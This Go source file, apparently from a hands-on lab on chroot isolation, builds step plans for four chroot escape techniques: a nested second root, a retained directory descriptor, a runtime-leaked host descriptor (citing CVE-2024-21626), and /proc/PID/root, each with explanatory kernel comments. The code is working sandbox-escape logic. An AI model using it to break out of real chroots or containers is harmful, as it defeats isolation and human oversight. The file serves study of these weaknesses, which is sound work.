package escape

import (
	"fmt"
	"strings"

	"golang.org/x/sys/unix"

	"skiff.example/stage01-chroot/plan"
)

// How each way leads out: the steps of its plan, up to where the process has
// the host's root again. See path_resolution(7) and proc_pid_root(5).

// levels is how many directories up a way out goes. Above the host's "/" there
// is nothing: ".." leads to "/" again, so too many do no harm.
const levels = 32

// deeper is a directory in the root that the process is in.
const deeper = "way-out"

// up adds the steps that lead from a working directory outside of the root to
// the top of the mounts. Where a process has mounts of its own, that is not
// the host's "/": chapter 2.
func up(p *plan.Plan) {
	p.Add(
		plan.Chdir(strings.TrimSuffix(strings.Repeat("../", levels), "/")),
		plan.Chroot("."),
	)
}

// secondRoot makes a directory the root and stays outside of it. The kernel
// stops ".." at the root, but it notices the root only when it comes past it
// (follow_dotdot, fs/namei.c). This process is above already.
func secondRoot(p *plan.Plan, _ Outside) {
	p.Section(1, "a root below the working directory")
	p.Add(
		plan.Mkdirat(plan.CWD, deeper, 0o700).Accept(unix.EEXIST),
		plan.Chroot(deeper),
	)
	p.Section(1, "from there, up and out")
	up(p)
}

// keptDescriptor is the same for a kernel, or a runtime, that moves the working
// directory into the new root: a descriptor remembers the old place.
func keptDescriptor(p *plan.Plan, _ Outside) {
	here := p.Register("here")
	p.Section(1, "a descriptor of this place")
	p.Add(plan.Openat2(plan.CWD, ".", unix.OpenHow{Flags: unix.O_PATH | unix.O_DIRECTORY | unix.O_CLOEXEC}).Into(here))
	p.Section(1, "a root below it, and into that")
	p.Add(
		plan.Mkdirat(plan.CWD, deeper, 0o700).Accept(unix.EEXIST),
		plan.Chroot(deeper),
		plan.Chdir("/"),
	)
	p.Section(1, "back, up and out")
	p.Add(plan.Fchdir(here))
	up(p)
}

// leakedDescriptor needs no second root: whoever made the first one has left a
// directory of the host open (CVE-2024-21626 was such a leak, in runc).
func leakedDescriptor(p *plan.Plan, from Outside) {
	const nothing = "nobody has left a directory of the host open"
	p.Section(1, "a directory that was left open, up and out")
	p.Add(plan.Fchdir(plan.Descriptor{Number: from.Descriptor}).
		Doing("change directory to descriptor %d", from.Descriptor).
		Hint(unix.EBADF, nothing).Hint(unix.ENOTDIR, nothing))
	up(p)
}

// otherRoot asks the kernel for the root of another process. The link
// /proc/PID/root is no text that is looked up: the kernel goes to the very
// directory. Whom it lets follow is a matter of ptrace(2),
// PTRACE_MODE_READ_FSCREDS.
func otherRoot(p *plan.Plan, from Outside) {
	p.Section(1, "the root of another process")
	p.Add(
		plan.Chroot(fmt.Sprintf("/proc/%d/root", from.PID)).
			Hint(unix.ENOENT, "no proc file system is mounted here, or it has no such process").
			Hint(unix.EACCES, "a process may follow the links of those only that it may trace: try another --pid"),
		plan.Chdir("/"),
	)
}
